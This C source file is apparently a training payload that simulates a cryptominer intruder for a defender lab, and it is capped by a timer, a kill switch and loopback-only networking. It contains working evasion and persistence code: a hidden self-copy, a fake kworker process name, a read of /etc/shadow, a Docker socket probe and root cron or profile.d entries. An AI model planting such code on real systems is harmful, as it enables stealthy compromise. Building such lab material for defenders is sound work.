/* bulwark lab payload: a harmless stand-in for a cryptominer intruder.
 *
 * It behaves the way the real thing a defender meets does, and nothing more:
 *   - copies itself to a hidden path (/tmp/.ICE-unix/.kworker) and runs from
 *     there, named like a kernel thread ("[kworker/0:1-events]");
 *   - reads /etc/shadow and probes the Docker socket (GET /version);
 *   - tries to persist: /etc/cron.d/kworker, else /etc/profile.d/kworker.sh;
 *   - logs in to a "mining pool" with stratum JSON-RPC on 127.0.0.1 (only
 *     the port can be chosen: it never talks to anything but loopback);
 *   - burns one CPU in bounded bursts, submitting a fake share after each.
 * Safety: it stops by itself after --max-seconds (default 90, at most 600),
 * and at once when /tmp/.bulwark-lab-stop exists (the kill switch,
 * `make -C lab attack-stop`). It never deletes or overwrites anything
 * but its own files.
 *
 * The defender may also find two easter eggs (see lab/payload/README.md).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define HIDDEN_DIR "/tmp/.ICE-unix"
#define HIDDEN_EXE HIDDEN_DIR "/.kworker"
#define HIDDEN_LOG HIDDEN_DIR "/.kworker.log"
#define KILL_SWITCH "/tmp/.bulwark-lab-stop"
#define FAKE_THREAD "[kworker/0:1-events]"
#define MAX_SECONDS_CAP 600

/* What a miner's embedded config looks like to `strings` (and to triage). */
__attribute__((used)) static const char kConfig[] =
    "xmrig-compatible miner; url=stratum+tcp://127.0.0.1:3333; --donate-level 1; "
    "algo=rx/0 (randomx, cryptonight fallback); sysctl -w vm.nr_hugepages=1280; "
    "wrmsr /dev/cpu/0/msr";
/* A Monero-shaped address. Fake: no key exists for it. */
static const char kWallet[] =
    "48BuLwArKLabFakeWa11etDoNotPayAnything9xGZc4DQy1hTqP5SfWnVb7JmEu3YkR2oXa6LdN8sKvHiC1MzpQrTbu1wa";
/* Easter egg 1: a marker the defender finds with `strings` or triage. */
__attribute__((used)) static const char kEgg[] = "BULWARK-LAB-EGG{marker-in-the-binary: you looked inside, well done}";
/* Easter egg 2 is the note dropped by DropNote(). */

static FILE *g_log;
static time_t g_deadline;

static void Log(const char *what) {
  if (!g_log) return;
  fprintf(g_log, "%ld %s\n", (long)time(NULL), what);
  fflush(g_log);
}

static int ShouldStop(void) {
  return access(KILL_SWITCH, F_OK) == 0 || time(NULL) >= g_deadline;
}

/* Copies /proc/self/exe to `path`, mode 0755. */
static int CopySelf(const char *path) {
  char buf[65536];
  int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  if (in < 0) return -1;
  int out = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (out < 0) {
    close(in);
    return -1;
  }
  ssize_t n;
  while ((n = read(in, buf, sizeof(buf))) > 0) {
    if (write(out, buf, (size_t)n) != n) break;
  }
  close(in);
  close(out);
  return n == 0 ? 0 : -1;
}

/* Overwrites the command line the kernel shows (/proc/PID/cmdline). */
static void Disguise(int argc, char **argv) {
  prctl(PR_SET_NAME, "kworker/0:1", 0, 0, 0);
  size_t room = 0;
  for (int i = 0; i < argc; ++i) room += strlen(argv[i]) + 1;
  if (room == 0) return;
  memset(argv[0], 0, room);
  snprintf(argv[0], room, "%s", FAKE_THREAD);
}

static void ReadShadow(void) {
  char buf[256];
  int fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    Log("shadow: unreadable");
    return;
  }
  ssize_t n = read(fd, buf, sizeof(buf));
  close(fd);
  Log(n > 0 ? "shadow: read" : "shadow: empty");
}

static void ProbeDockerSocket(void) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) return;
  struct sockaddr_un addr = {.sun_family = AF_UNIX};
  snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", "/var/run/docker.sock");
  if (connect(s, (struct sockaddr *)&addr, sizeof(addr)) == 0) {
    static const char req[] = "GET /version HTTP/1.0\r\n\r\n";
    char reply[512];
    if (write(s, req, sizeof(req) - 1) > 0 && read(s, reply, sizeof(reply)) > 0) {
      Log("docker.sock: the engine answered");
    } else {
      Log("docker.sock: connected, no answer");
    }
  } else {
    Log("docker.sock: not reachable");
  }
  close(s);
}

static void Persist(void) {
  static const char cron[] = "*/5 * * * * root " HIDDEN_EXE " >/dev/null 2>&1\n";
  static const char profile[] = "(" HIDDEN_EXE " >/dev/null 2>&1 &)\n";
  const char *path = "/etc/cron.d/kworker";
  const char *text = cron;
  struct stat st;
  if (stat("/etc/cron.d", &st) != 0 || !S_ISDIR(st.st_mode)) {
    path = "/etc/profile.d/kworker.sh";
    text = profile;
  }
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) {
    Log("persistence: refused");
    return;
  }
  ssize_t ignored = write(fd, text, strlen(text));
  (void)ignored;
  close(fd);
  Log(path);
}

/* Easter egg 2: a note left where defenders seldom look. */
static void DropNote(void) {
  int fd = open("/var/tmp/.bw_notes", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (fd < 0) return;
  char note[512];
  int n = snprintf(note, sizeof(note),
                   "BULWARK-LAB-EGG{second-file: payouts go to %s}\n"
                   "(a lab note: nothing here is real)\n",
                   kWallet);
  if (n > 0) {
    ssize_t ignored = write(fd, note, (size_t)n);
    (void)ignored;
  }
  close(fd);
}

static int ConnectPool(int port) {
  int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) return -1;
  struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK); /* loopback only, always */
  struct timeval tv = {.tv_sec = 2};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  if (connect(s, (struct sockaddr *)&addr, sizeof(addr)) != 0) {
    close(s);
    return -1;
  }
  return s;
}

static void SendLine(int s, const char *line) {
  ssize_t ignored = write(s, line, strlen(line));
  (void)ignored;
}

/* One bounded burst of busy work on one CPU. */
static uint64_t Burn(int seconds) {
  uint64_t x = 0x9e3779b97f4a7c15ull;
  time_t end = time(NULL) + seconds;
  while (time(NULL) < end && !ShouldStop()) {
    for (int i = 0; i < 2000000; ++i) x = (x ^ (x >> 31)) * 0xbf58476d1ce4e5b9ull + (uint64_t)i;
  }
  return x;
}

static void Mine(int port) {
  int s = ConnectPool(port);
  if (s < 0) {
    Log("pool: unreachable, mining offline");
  } else {
    char login[512];
    snprintf(login, sizeof(login),
             "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"%s\","
             "\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (bulwark-lab)\",\"algo\":[\"rx/0\"]}}\n",
             kWallet);
    SendLine(s, login);
    char reply[1024];
    ssize_t n = read(s, reply, sizeof(reply) - 1);
    Log(n > 0 ? "pool: logged in" : "pool: no answer to login");
  }
  for (int share = 2; !ShouldStop(); ++share) {
    uint64_t nonce = Burn(2);
    if (s >= 0) {
      char submit[256];
      snprintf(submit, sizeof(submit),
               "{\"id\":%d,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{\"id\":\"lab\","
               "\"job_id\":\"1\",\"nonce\":\"%08x\",\"result\":\"00\"}}\n",
               share, (unsigned)nonce);
      SendLine(s, submit);
    }
    for (int i = 0; i < 3 && !ShouldStop(); ++i) sleep(1);
  }
  if (s >= 0) close(s);
  Log("stopped");
}

int main(int argc, char **argv) {
  int port = 3333, max_seconds = 90, stage2 = 0;
  for (int i = 1; i < argc; ++i) {
    if (!strcmp(argv[i], "--pool-port") && i + 1 < argc) port = atoi(argv[++i]);
    else if (!strcmp(argv[i], "--max-seconds") && i + 1 < argc) max_seconds = atoi(argv[++i]);
    else if (!strcmp(argv[i], "--stage2")) stage2 = 1;
  }
  if (port <= 0 || port > 65535) port = 3333;
  if (max_seconds <= 0 || max_seconds > MAX_SECONDS_CAP) max_seconds = 90;
  g_deadline = time(NULL) + max_seconds;
  if (access(KILL_SWITCH, F_OK) == 0) return 0;

  if (!stage2) {
    /* Stage 1: hide a copy and start it detached, then leave. */
    mkdir(HIDDEN_DIR, 01777);
    if (CopySelf(HIDDEN_EXE) != 0) return 1;
    char port_text[16], seconds_text[16];
    snprintf(port_text, sizeof(port_text), "%d", port);
    snprintf(seconds_text, sizeof(seconds_text), "%d", max_seconds);
    pid_t child = fork();
    if (child < 0) return 1;
    if (child > 0) return 0;
    setsid();
    int null = open("/dev/null", O_RDWR);
    if (null >= 0) {
      dup2(null, 0);
      dup2(null, 1);
      dup2(null, 2);
    }
    char *args[] = {(char *)FAKE_THREAD, "--stage2", "--pool-port", port_text,
                    "--max-seconds", seconds_text, NULL};
    execv(HIDDEN_EXE, args);
    _exit(1);
  }

  signal(SIGPIPE, SIG_IGN);
  Disguise(argc, argv);
  g_log = fopen(HIDDEN_LOG, "a");
  Log("started");
  DropNote();
  ReadShadow();
  ProbeDockerSocket();
  Persist();
  Mine(port);
  if (g_log) fclose(g_log);
  return 0;
}
